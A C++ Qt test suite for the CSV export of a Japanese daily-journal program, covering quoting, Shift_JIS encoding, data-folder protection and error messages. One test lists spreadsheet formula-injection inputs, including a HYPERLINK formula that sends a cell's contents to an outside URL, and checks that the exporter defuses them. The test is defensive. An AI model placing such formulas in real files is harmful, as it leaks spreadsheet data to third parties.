// CSV files of the journal and the totals: the bytes as RFC 4180 and Excel
// want them, Shift_JIS as Windows has it and its refusals, Python's csv module
// reading every field back, and files that are whole or not there.

#include "exchange/export.h"
#include "exportfixture.h"

#include "store/sqlitefiles.h"

#include <QDirIterator>
#include <QJsonArray>
#include <QRegularExpression>

#if defined(Q_OS_LINUX)
#include <sys/fsuid.h>
#include <sys/stat.h>
#include <unistd.h>
#endif

using namespace exporttest;
using namespace Qt::StringLiterals;
using exchange::Encoding;
using exchange::ExportFile;
using exchange::Format;

namespace {

const QByteArray kBom = QByteArrayLiteral("\xEF\xBB\xBF");
const QByteArray kJournalHeader = QByteArrayLiteral("日付,売上額,仕入額,入金額,出金額,日誌\r\n");
const store::Period kApril{QDate(2007, 4, 1), QDate(2007, 4, 30)};

struct Journal : ExportFolder
{
    QString path(const QString &name = QStringLiteral("out.csv")) const { return out.filePath(name); }
    exchange::Exported csv(const QString &path, Encoding encoding = Encoding::Utf8, bool overwrite = false)
    {
        common::NoProgress quiet;
        return exchange::exportJournal(*store, kApril, ExportFile{path, Format::Csv, encoding, {}, overwrite}, quiet);
    }
};

// Days of ordinary notes before April 2007: enough text that the refused
// day comes after the first part of the file has been written.
QList<Day> earlierDays(int count)
{
    QList<Day> days;
    const QString note =
        QStringLiteral("午前中に常連の山田様が来店、季節の贈答品をまとめてご注文いただく。").repeated(3);
    for (int i = 0; i < count; ++i) {
        days.append({QDate(2007, 4, 1).addDays(-1 - i).toString(Qt::ISODate), {i}, note});
    }
    return days;
}

const char *const kReadCsv = R"(import csv, json, sys
with open(sys.argv[1], encoding=sys.argv[2], newline='') as f:
    print(json.dumps(list(csv.reader(f))))
)";

} // namespace

class TestCsvExport : public QObject
{
    Q_OBJECT

private slots:
    void utf8FileHoldsEveryByte();
    void fieldsAreQuotedAsRfc4180_data();
    void fieldsAreQuotedAsRfc4180();
    void shiftJisIsWindowsCodePage932();
    void shiftJisRefusesWhatItCannotHold_data();
    void shiftJisRefusesWhatItCannotHold();
    void pythonReadsEveryField_data();
    void pythonReadsEveryField();
    void totalsEndWithTheirSums();
    void amountThatIsNoNumberStopsTheExport();
    void formulasAreWrittenAsText_data();
    void formulasAreWrittenAsText();
    void theDataFolderIsNeverWritten_data();
    void theDataFolderIsNeverWritten();
    void aFullDiskIsSaidInJapanese_data();
    void aFullDiskIsSaidInJapanese();
    void failedWritesLeaveNoFile_data();
    void failedWritesLeaveNoFile();
    void progressIsToldAndEnded();
};

void TestCsvExport::utf8FileHoldsEveryByte()
{
    Journal journal;
    QVERIFY(journal.open({
        {u"2007-04-06"_s, {9'999'999'999, -9'999'999'999, std::nullopt, 0}, u"本日は晴れ。"_s},
        {u"2007-04-05"_s, {1200, std::nullopt, 0, -5}, u"売上, 仕入 \"特売\"\n二行目"_s},
        {u"2007-04-07"_s, {}, std::nullopt},
        {u"2007-03-31"_s, {1}, u"前の月"_s},
        {u"2007-05-01"_s, {1}, u"次の月"_s},
    }));
    const exchange::Exported exported = journal.csv(journal.path());
    QVERIFY2(!exported.failure, qPrintable(exported.failure.value_or(QString())));
    QCOMPARE(exported.rows, 3);
    QCOMPARE(readAll(journal.path()),
             kBom + kJournalHeader +
                 QByteArrayLiteral("2007/04/05,1200,,0,-5,\"売上, 仕入 \"\"特売\"\"\r\n二行目\"\r\n"
                                   "2007/04/06,9999999999,-9999999999,,0,本日は晴れ。\r\n"
                                   "2007/04/07,,,,,\r\n"));
    QCOMPARE(entriesOf(journal.out.path()), QStringList{u"out.csv"_s});
}

void TestCsvExport::fieldsAreQuotedAsRfc4180_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("field");
    QTest::newRow("plain") << u"本日は晴れ。"_s << QByteArray("本日は晴れ。");
    QTest::newRow("blanks stay unquoted") << u"  字下げ "_s << QByteArray("  字下げ ");
    QTest::newRow("formula-like text guarded") << u"=1+2"_s << QByteArray("'=1+2");
    QTest::newRow("comma") << u"a,b"_s << QByteArray("\"a,b\"");
    QTest::newRow("quotes doubled") << u"彼は\"はい\"と"_s << QByteArray("\"彼は\"\"はい\"\"と\"");
    QTest::newRow("a quote alone") << u"\""_s << QByteArray("\"\"\"\"");
    QTest::newRow("LF as CRLF") << u"一\n二"_s << QByteArray("\"一\r\n二\"");
    QTest::newRow("CRLF not doubled") << u"一\r\n二"_s << QByteArray("\"一\r\n二\"");
    QTest::newRow("lone CR kept") << u"一\r二"_s << QByteArray("\"一\r二\"");
    QTest::newRow("LF at the end") << u"一\n\n"_s << QByteArray("\"一\r\n\r\n\"");
    QTest::newRow("empty") << QString() << QByteArray();
}

void TestCsvExport::fieldsAreQuotedAsRfc4180()
{
    QFETCH(QString, text);
    QFETCH(QByteArray, field);
    Journal journal;
    QVERIFY(journal.open({{u"2007-04-05"_s, {1}, text}}));
    QVERIFY(!journal.csv(journal.path()).failure);
    QCOMPARE(readAll(journal.path()), kBom + kJournalHeader + "2007/04/05,1,,,," + field + "\r\n");
}

void TestCsvExport::formulasAreWrittenAsText_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("field");
    QTest::newRow("a link that sends a cell away")
        << u"=HYPERLINK(\"http://example.com/?x=\"&A1,\"詳細\")"_s
        << QByteArray("\"'=HYPERLINK(\"\"http://example.com/?x=\"\"&A1,\"\"詳細\"\")\"");
    QTest::newRow("plus") << u"+81 3 1234"_s << QByteArray("'+81 3 1234");
    QTest::newRow("minus") << u"-500 円の値引き"_s << QByteArray("'-500 円の値引き");
    QTest::newRow("at") << u"@SUM(A1)"_s << QByteArray("'@SUM(A1)");
    QTest::newRow("tab") << u"\t字下げ"_s << QByteArray("'\t字下げ");
    QTest::newRow("carriage return, quoted") << u"\r二行目"_s << QByteArray("\"'\r二行目\"");
    QTest::newRow("line feed, written CR LF") << u"\n=1"_s << QByteArray("\"'\r\n=1\"");
    // Apostrophes already leading to such a character get one more, so that the import can tell.
    QTest::newRow("an apostrophe before =") << u"'=1"_s << QByteArray("''=1");
    QTest::newRow("two apostrophes before -") << u"''-1"_s << QByteArray("'''-1");
    QTest::newRow("an apostrophe alone") << u"'"_s << QByteArray("'");
    QTest::newRow("an apostrophe before a letter") << u"'abc"_s << QByteArray("'abc");
    QTest::newRow("= later in the text") << u"a=1"_s << QByteArray("a=1");
    QTest::newRow("a blank first") << u" =1"_s << QByteArray(" =1");
    QTest::newRow("full-width equals") << u"＝1"_s << QByteArray("＝1");
}

void TestCsvExport::formulasAreWrittenAsText()
{
    QFETCH(QString, text);
    QFETCH(QByteArray, field);
    Journal journal;
    QVERIFY(journal.open({{u"2007-04-05"_s, {-1000, std::nullopt, std::nullopt, -1}, text}}));
    QVERIFY(!journal.csv(journal.path()).failure);
    // Amounts and dates are never guarded.
    QCOMPARE(readAll(journal.path()), kBom + kJournalHeader + "2007/04/05,-1000,,,-1," + field + "\r\n");
}

void TestCsvExport::shiftJisIsWindowsCodePage932()
{
    Journal journal;
    // Half-width kana, full-width digits, and the characters where Windows'
    // table differs from JIS: ～ (U+FF5E, not the wave dash), －, ￢, ∥, the NEC
    // ① and ㈱, and 髙 from the IBM extension (FBFC, not the NEC-selected EEE0).
    QVERIFY(journal.open({{u"2007-04-05"_s, {-1}, u"ｱｲｳ１２３～①㈱髙－￢∥"_s}}));
    QVERIFY(!journal.csv(journal.path(), Encoding::ShiftJis).failure);
    const QByteArray expected = QByteArray::fromHex("93fa9574 2c 9484 8fe3 8a7a 2c 8e64 93fc 8a7a 2c 93fc 8be0 8a7a 2c "
                                                    "8f6f 8be0 8a7a 2c 93fa 8e8f 0d0a"
                                                    "323030372f30342f3035 2c 2d31 2c2c2c2c"
                                                    "b1b2b3 825082518252 8160 8740 878a fbfc 817c 81ca 8161 0d0a");
    QCOMPARE(readAll(journal.path()).toHex(' '), expected.toHex(' '));
}

void TestCsvExport::shiftJisRefusesWhatItCannotHold_data()
{
    QTest::addColumn<QString>("character");
    QTest::addColumn<QString>("code");
    QTest::newRow("emoji") << u"😀"_s << u"U+1F600"_s;
    QTest::newRow("beyond the BMP") << u"𠮷"_s << u"U+20BB7"_s;
    QTest::newRow("Hangul") << u"한"_s << u"U+D55C"_s;
    QTest::newRow("accented Latin") << u"é"_s << u"U+00E9"_s;
    QTest::newRow("yen sign, no look-alike backslash") << u"¥"_s << u"U+00A5"_s;
    QTest::newRow("JIS wave dash") << u"〜"_s << u"U+301C"_s;
    // ICU's own stop would let these pass as nothing.
    QTest::newRow("soft hyphen") << u"\u00AD"_s << u"U+00AD"_s;
    QTest::newRow("ideographic variation selector") << u"葛\U000E0100"_s << u"U+E0100"_s;
}

void TestCsvExport::shiftJisRefusesWhatItCannotHold()
{
    QFETCH(QString, character);
    QFETCH(QString, code);
    Journal journal;
    QList<Day> days = earlierDays(400);
    days.append({u"2007-04-05"_s, {1}, u"前"_s + character + u"後"_s});
    days.append({u"2007-04-06"_s, {1}, character});
    QVERIFY(journal.open(days));
    const QString path = journal.path();
    QVERIFY(writeAll(path, "earlier"));

    common::NoProgress quiet;
    const store::Period all{QDate(2000, 1, 1), QDate(2007, 12, 31)};
    const exchange::Exported exported = exchange::exportJournal(
        *journal.store, all, ExportFile{path, Format::Csv, Encoding::ShiftJis, {}, true}, quiet);
    const QString shown = character.startsWith(u"葛") ? character.mid(1) : character;
    QCOMPARE(exported.failure.value_or(QString()),
             u"2007/04/05 の日誌の「%1」(%2) は Shift_JIS で書けません。UTF-8 を選んでください。"_s.arg(shown, code));
    QCOMPARE(exported.rows, 0);
    QCOMPARE(readAll(path), QByteArray("earlier"));
    QCOMPARE(entriesOf(journal.out.path()), QStringList{u"out.csv"_s});
    // The refusal is told apart from other failures by its kind, not its words.
    QVERIFY(exported.shiftJisRefusal);
    QCOMPARE(exported.shiftJisRefusal->why, exchange::ShiftJisRefusal::Why::Unwritable);
    QCOMPARE(exported.shiftJisRefusal->day, u"2007/04/05"_s);
    QCOMPARE(exported.shiftJisRefusal->column, u"日誌"_s);
    QCOMPARE(exported.shiftJisRefusal->codePoint, code);
    QCOMPARE(exchange::describe(*exported.shiftJisRefusal, false),
             u"2007/04/05 の日誌の「%1」(%2) は Shift_JIS で書けません。"_s.arg(shown, code));
    const exchange::Exported intoFolder = exchange::exportJournal(
        *journal.store, all, ExportFile{journal.out.path(), Format::Csv, Encoding::ShiftJis, {}, true}, quiet);
    QVERIFY(intoFolder.failure);
    QVERIFY(!intoFolder.shiftJisRefusal);

    // The same text goes into UTF-8 untouched.
    QVERIFY(!journal.csv(path, Encoding::Utf8, true).failure);
    QVERIFY(readAll(path).contains((u"前"_s + character + u"後"_s).toUtf8()));
}

void TestCsvExport::pythonReadsEveryField_data()
{
    QTest::addColumn<Encoding>("encoding");
    QTest::addColumn<QString>("pythonCodec");
    QTest::newRow("UTF-8 with BOM") << Encoding::Utf8 << u"utf-8-sig"_s;
    QTest::newRow("Shift_JIS") << Encoding::ShiftJis << u"cp932"_s;
}

void TestCsvExport::pythonReadsEveryField()
{
    QFETCH(Encoding, encoding);
    QFETCH(QString, pythonCodec);
    const QList<Day> days{
        {u"2007-04-01"_s, {0, 0, 0, 0}, u"本日は晴れ。"_s},
        {u"2007-04-02"_s, {-9'999'999'999, 9'999'999'999, std::nullopt, 1}, u"売上, 仕入 \"特売\"\n二行目\n"_s},
        {u"2007-04-03"_s, {}, std::nullopt},
        {u"2007-04-04"_s, {5}, u"他の\r\nプログラムの改行\rと CR"_s},
        {u"2007-04-05"_s, {6}, u"ｱｲｳ１２３～①㈱髙－￢∥ \\ ~ ,\"\""_s},
        {u"2007-04-30"_s, {7}, u"  =SUM(A1) "_s},
    };
    Journal journal;
    QVERIFY(journal.open(days));
    QVERIFY(!journal.csv(journal.path(), encoding).failure);

    QString error;
    const QJsonDocument read = runPython(kReadCsv, {journal.path(), pythonCodec}, error);
    QVERIFY2(read.isArray(), qPrintable(error));
    // Appended, not braced: a braced list of one array is that array copied, with clang.
    QJsonArray expected;
    expected.append(QJsonArray{u"日付"_s, u"売上額"_s, u"仕入額"_s, u"入金額"_s, u"出金額"_s, u"日誌"_s});
    for (const Day &day : days) {
        QJsonArray row{QDate::fromString(day.date, Qt::ISODate).toString(u"yyyy/MM/dd"_s)};
        for (const auto &amount : day.amounts) {
            row.append(amount ? QString::number(*amount) : QString());
        }
        QString text = day.text.value_or(QString());
        text.replace(u"\r\n"_s, u"\n"_s).replace(u"\n"_s, u"\r\n"_s);
        row.append(text);
        expected.append(row);
    }
    QCOMPARE(read.array(), expected);
}

void TestCsvExport::totalsEndWithTheirSums()
{
    Journal journal;
    QVERIFY(journal.open({
        {u"2007-04-06"_s, {10, std::nullopt, std::nullopt, 5}, u"x"_s},
        {u"2007-04-05"_s, {1200, std::nullopt, 0, -5}, u"y"_s},
    }));
    store::FillReport report;
    QVERIFY(journal.store->fillWork(kApril, report).ok());
    common::NoProgress quiet;
    const ExportFile file{journal.path(), Format::Csv, Encoding::Utf8, {}, false};
    const exchange::Exported exported = exchange::exportTotals(*journal.store, file, quiet);
    QVERIFY2(!exported.failure, qPrintable(exported.failure.value_or(QString())));
    QCOMPARE(exported.rows, 2);
    QCOMPARE(readAll(journal.path()), kBom + QByteArrayLiteral("日付,売上額,仕入額,入金額,出金額\r\n"
                                                               "2007/04/05,1200,,0,-5\r\n"
                                                               "2007/04/06,10,,,5\r\n"
                                                               "合計,1210,,0,0\r\n"));

    // A cell typed over in the grid is written as it now stands, and summed so.
    QList<store::WorkRow> rows;
    QVERIFY(journal.store->workRows(0, 10, rows).ok());
    QVERIFY(journal.store->setWorkAmount(rows[1].id, store::AmountColumn::Purchases, 7).ok());
    QVERIFY(!exchange::exportTotals(*journal.store, ExportFile{journal.path(), Format::Csv, Encoding::Utf8, {}, true},
                                    quiet)
                 .failure);
    QVERIFY(readAll(journal.path()).endsWith(QByteArrayLiteral("2007/04/06,10,7,,5\r\n合計,1210,7,0,0\r\n")));

    // A sum beyond the amount range is refused, naming its column, as the
    // totals page refuses to show it; the file stays as it was.
    const QByteArray written = readAll(journal.path());
    QVERIFY(journal.store->setWorkAmount(rows[0].id, store::AmountColumn::MoneyOut, -common::kAmountLimit).ok());
    QVERIFY(journal.store->setWorkAmount(rows[1].id, store::AmountColumn::MoneyOut, -common::kAmountLimit).ok());
    const exchange::Exported refused = exchange::exportTotals(
        *journal.store, ExportFile{journal.path(), Format::Csv, Encoding::Utf8, {}, true}, quiet);
    QCOMPARE(refused.failure.value_or(QString()),
             u"出金額の合計 -19,999,999,998 は、金額の桁数（9,999,999,999）を超えているため書き出せません。"
             "期間を短くしてください。"_s);
    QCOMPARE(readAll(journal.path()), written);

    // An empty table still has its sums row, with no sums.
    QVERIFY(journal.store->clearWork().ok());
    QVERIFY(!exchange::exportTotals(*journal.store, ExportFile{journal.path(), Format::Csv, Encoding::Utf8, {}, true},
                                    quiet)
                 .failure);
    QCOMPARE(readAll(journal.path()), kBom + QByteArrayLiteral("日付,売上額,仕入額,入金額,出金額\r\n合計,,,,\r\n"));
}

void TestCsvExport::amountThatIsNoNumberStopsTheExport()
{
    Journal journal;
    QVERIFY(journal.open({{u"2007-04-04"_s, {1}, u"a"_s}}));
    QVERIFY(testsupport::execOn(journal.data.mainPath(),
                                u"INSERT INTO 業務日誌 (日付, 売上額, 仕入額) VALUES ('2007-04-05', 1, '千円')"_s));
    const exchange::Exported exported = journal.csv(journal.path());
    QCOMPARE(exported.failure.value_or(QString()), u"2007/04/05 の仕入額は数ではない値のため書き出せません。"_s);
    QCOMPARE(entriesOf(journal.out.path()), QStringList());
}

// Every file under a folder with its bytes.
QStringList contentsOf(const QString &folder)
{
    QStringList files;
    QDirIterator it(folder, QDir::Files | QDir::Hidden | QDir::System, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        files.append(path + u' ' + QString::fromLatin1(readAll(path).toHex()));
    }
    files.sort();
    return files;
}

void TestCsvExport::theDataFolderIsNeverWritten_data()
{
    QTest::addColumn<QString>("target");
    QTest::addColumn<QString>("reason");
    const QString dataFile = u"はこのプログラムのデータファイルです。データフォルダーには書き出せません。"_s;
    const QString inside = u"はこのプログラムのデータフォルダーの中です。データフォルダーには書き出せません。"_s;
    const QString pointing = u"を指しています。データフォルダーには書き出せません。"_s;
    const QString same = u"と同じファイルです。データフォルダーには書き出せません。"_s;
    const QString notAFile = u"は普通のファイルではありません"_s;
    QTest::newRow("the journal file") << u"journal"_s << dataFile;
    QTest::newRow("the work file") << u"work"_s << dataFile;
    QTest::newRow("a copy in backup/") << u"copy"_s << inside;
    QTest::newRow("zephra.ini") << u"ini"_s << inside;
    QTest::newRow("a new name inside") << u"new inside"_s << inside;
    QTest::newRow("a symbolic link to the journal file") << u"symlink"_s << pointing;
    QTest::newRow("a link to a companion not there yet") << u"dangling"_s << pointing;
    QTest::newRow("a linked folder") << u"linked folder"_s << inside;
    QTest::newRow("a hard link of the journal file") << u"hard link"_s << same;
    QTest::newRow("a hard link of a copy") << u"hard link of a copy"_s << same;
    QTest::newRow("a device") << u"device"_s << notAFile;
    QTest::newRow("a named pipe") << u"fifo"_s << notAFile;
    QTest::newRow("a folder") << u"folder"_s << u"はフォルダーです。"_s;
}

void TestCsvExport::theDataFolderIsNeverWritten()
{
    QFETCH(QString, target);
    QFETCH(QString, reason);
#if !defined(Q_OS_LINUX)
    QSKIP("links, devices and pipes are made with Linux calls here");
#else
    Journal journal;
    QVERIFY(journal.open(earlierDays(3)));
    const QString data = journal.data.folder();
    const QString copy = data + u"backup/20070401-120000-daily/"_s + store::kMainFileName;
    QVERIFY(QDir().mkpath(QFileInfo(copy).path()) && QFile::copy(journal.data.mainPath(), copy));
    QVERIFY(writeAll(data + u"zephra.ini"_s, "[backup]\ndays=7\n"));
    const auto hardLink = [](const QString &from, const QString &to) {
        return ::link(QFile::encodeName(from).constData(), QFile::encodeName(to).constData()) == 0;
    };

    QString path = journal.path(u"link.csv"_s);
    if (target == u"journal") {
        path = journal.data.mainPath();
    } else if (target == u"work") {
        path = journal.data.workPath();
    } else if (target == u"copy") {
        path = copy;
    } else if (target == u"ini") {
        path = data + u"zephra.ini"_s;
    } else if (target == u"new inside") {
        path = data + u"書き出し.csv"_s;
    } else if (target == u"symlink") {
        QVERIFY(QFile::link(journal.data.mainPath(), path));
    } else if (target == u"dangling") {
        QVERIFY(QFile::link(journal.data.mainPath() + u"-wal"_s, path));
    } else if (target == u"linked folder") {
        QVERIFY(QFile::link(data, journal.path(u"linked"_s)));
        path = journal.path(u"linked/new.csv"_s);
    } else if (target == u"hard link") {
        QVERIFY(hardLink(journal.data.mainPath(), path));
    } else if (target == u"hard link of a copy") {
        QVERIFY(hardLink(copy, path));
    } else if (target == u"device") {
        path = u"/dev/null"_s;
    } else if (target == u"fifo") {
        QVERIFY(::mkfifo(QFile::encodeName(path).constData(), 0600) == 0);
    } else {
        QVERIFY(QDir().mkpath(path));
    }
    const QStringList before = contentsOf(data);
    const QStringList outside = entriesOf(journal.out.path());

    const std::optional<QString> refused = exchange::refusedTarget(path, data);
    QVERIFY2(refused.value_or(QString()).startsWith(u"「%1」"_s.arg(QDir::toNativeSeparators(path))) &&
                 refused->contains(reason),
             qPrintable(refused.value_or(u"-"_s)));
    // The export itself refuses whatever is no regular file, even when asked to overwrite.
    if (target == u"device" || target == u"fifo" || target == u"folder") {
        common::NoProgress quiet;
        const exchange::Exported exported = exchange::exportJournal(
            *journal.store, kApril, ExportFile{path, Format::Csv, Encoding::Utf8, {}, true}, quiet);
        QCOMPARE(exported.failure, refused);
    }
    QCOMPARE(contentsOf(data), before);
    QCOMPARE(entriesOf(journal.out.path()), outside);
#endif
}

void TestCsvExport::aFullDiskIsSaidInJapanese_data()
{
    QTest::addColumn<Format>("format");
    QTest::newRow("CSV") << Format::Csv;
    QTest::newRow("Excel") << Format::Xlsx;
}

void TestCsvExport::aFullDiskIsSaidInJapanese()
{
    QFETCH(Format, format);
    // Texts of kanji in no order, so that a workbook does not shrink them to nothing.
    QList<Day> days;
    quint32 seed = 12345;
    for (int i = 0; i < 400; ++i) {
        QString text;
        for (int c = 0; c < 400; ++c) {
            seed = seed * 1103515245u + 12345u;
            text += QChar(char16_t(0x4E00 + (seed >> 8) % 0x5000));
        }
        days.append({QDate(2007, 4, 1).addDays(-i).toString(Qt::ISODate), {i}, text});
    }
    Journal journal;
    QVERIFY(journal.open(days));
    const QString disk = journal.out.filePath(u"small"_s);
    QVERIFY(QDir().mkpath(disk));
    if (QProcess::execute(u"mount"_s, {u"-t"_s, u"tmpfs"_s, u"-o"_s, u"size=1m"_s, u"tmpfs"_s, disk}) != 0) {
        QSKIP("a small tmpfs cannot be mounted here (mount needs root)");
    }
    const auto unmount = qScopeGuard([&] { QProcess::execute(u"umount"_s, {disk}); });
    // 64 KiB left.
    QVERIFY(writeAll(QDir(disk).filePath(u"filler"_s), QByteArray(1024 * 1024 - 64 * 1024, 'x')));

    const QString path = QDir(disk).filePath(format == Format::Csv ? u"日誌.csv"_s : u"日誌.xlsx"_s);
    common::NoProgress quiet;
    const store::Period all{QDate(2000, 1, 1), QDate(2007, 12, 31)};
    const exchange::Exported exported =
        exchange::exportJournal(*journal.store, all, ExportFile{path, format, Encoding::Utf8, {}, false}, quiet);
    QCOMPARE(exported.failure.value_or(QString()),
             u"「%1」に書き込めませんでした。ディスクの空きがありません。"_s.arg(QDir::toNativeSeparators(path)));
    QCOMPARE(entriesOf(disk), QStringList{u"filler"_s});
}

void TestCsvExport::failedWritesLeaveNoFile_data()
{
    QTest::addColumn<QString>("fault");
    QTest::addColumn<QString>("reason");
    QTest::newRow("the folder is a file")
        << u"folder is a file"_s << u"フォルダーの名前のはずのところがファイルです。"_s;
    QTest::newRow("a read-only folder") << u"read-only"_s << u"アクセスが許可されていません。"_s;
    QTest::newRow("a missing folder") << u"missing"_s << u"そのファイルかフォルダーがありません。"_s;
    QTest::newRow("the name is a folder") << u"name is a folder"_s << u"はフォルダーです。"_s;
    QTest::newRow("a file is there") << u"file is there"_s << u"が既にあります。"_s;
}

void TestCsvExport::failedWritesLeaveNoFile()
{
    QFETCH(QString, fault);
    QFETCH(QString, reason);
    Journal journal;
    QVERIFY(journal.open(earlierDays(3)));
    const QString folder = journal.out.filePath(u"exports"_s);
    QString path = QDir(folder).filePath(u"out.csv"_s);
    bool asNobody = false;
    const auto undo = qScopeGuard([&] {
#if defined(Q_OS_LINUX)
        if (asNobody) {
            setfsuid(0);
        }
#endif
        QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    });
    if (fault == u"folder is a file") {
        QVERIFY(writeAll(folder, "a file"));
    } else if (fault == u"name is a folder") {
        QVERIFY(QDir().mkpath(path));
    } else if (fault == u"file is there") {
        QVERIFY(QDir().mkpath(folder));
        QVERIFY(writeAll(path, "earlier"));
    } else if (fault == u"missing") {
        path = QDir(folder).filePath(u"not there/out.csv"_s);
        QVERIFY(QDir().mkpath(folder));
    } else {
        QVERIFY(QDir().mkpath(folder));
        QVERIFY(QFile::setPermissions(journal.out.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
                                                              QFile::ReadOther | QFile::ExeOther));
        QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::ExeOwner | QFile::ReadOther | QFile::ExeOther));
#if defined(Q_OS_LINUX)
        // Root writes into read-only folders: its accesses are checked as "nobody" meanwhile.
        if (geteuid() == 0) {
            setfsuid(65534);
            asNobody = true;
        }
#endif
        if (QDir(folder).mkdir(u"probe"_s)) {
            QSKIP("this user writes into read-only folders");
        }
    }
    const QStringList before = entriesOf(QFileInfo(folder).isDir() ? folder : journal.out.path());

    const exchange::Exported exported = journal.csv(path);
    QVERIFY(exported.failure);
    qInfo("%s", qPrintable(*exported.failure));
    QVERIFY(exported.failure->contains(QDir::toNativeSeparators(path)));
    // Said in Japanese: no English text of Qt's or the system's.
    QVERIFY(exported.failure->endsWith(reason));
    QVERIFY(
        !QString(*exported.failure).remove(QDir::toNativeSeparators(path)).contains(QRegularExpression(u"[A-Za-z]"_s)));
    QCOMPARE(entriesOf(QFileInfo(folder).isDir() ? folder : journal.out.path()), before);
    if (fault == u"file is there") {
        QCOMPARE(readAll(path), QByteArray("earlier"));
    } else if (fault != u"name is a folder") {
        QVERIFY(!QFileInfo::exists(path));
    }
}

void TestCsvExport::progressIsToldAndEnded()
{
    Journal journal;
    QList<Day> days;
    for (int i = 0; i < 600; ++i) {
        days.append({QDate(2006, 1, 1).addDays(i).toString(Qt::ISODate), {i}, u"a"_s});
    }
    QVERIFY(journal.open(days));
    const store::Period period{QDate(2006, 1, 1), QDate(2007, 12, 31)};
    RecordingProgress progress;
    const ExportFile file{journal.path(), Format::Csv, Encoding::Utf8, {}, false};
    QVERIFY(!exchange::exportJournal(*journal.store, period, file, progress).failure);
    QCOMPARE(progress.finished, 1);
    // Told by days of the period, every 256 records.
    const QList<std::pair<qint64, qint64>> expected{{0, 730}, {256, 730}, {512, 730}};
    QCOMPARE(progress.steps, expected);
    QVERIFY(progress.labels.first().contains(u"書き出して"_s));

    // A refusal ends it too.
    RecordingProgress refused;
    QVERIFY(exchange::exportJournal(*journal.store, period, file, refused).failure);
    QCOMPARE(refused.finished, 1);

    store::FillReport report;
    QVERIFY(journal.store->fillWork(period, report).ok());
    RecordingProgress totals;
    QVERIFY(!exchange::exportTotals(*journal.store, ExportFile{journal.path(), Format::Csv, Encoding::Utf8, {}, true},
                                    totals)
                 .failure);
    const QList<std::pair<qint64, qint64>> rows{{0, 0}, {256, 0}, {512, 0}};
    QCOMPARE(totals.steps, rows);
    QCOMPARE(totals.finished, 1);
}

QTEST_GUILESS_MAIN(TestCsvExport)
#include "test_csvexport.moc"
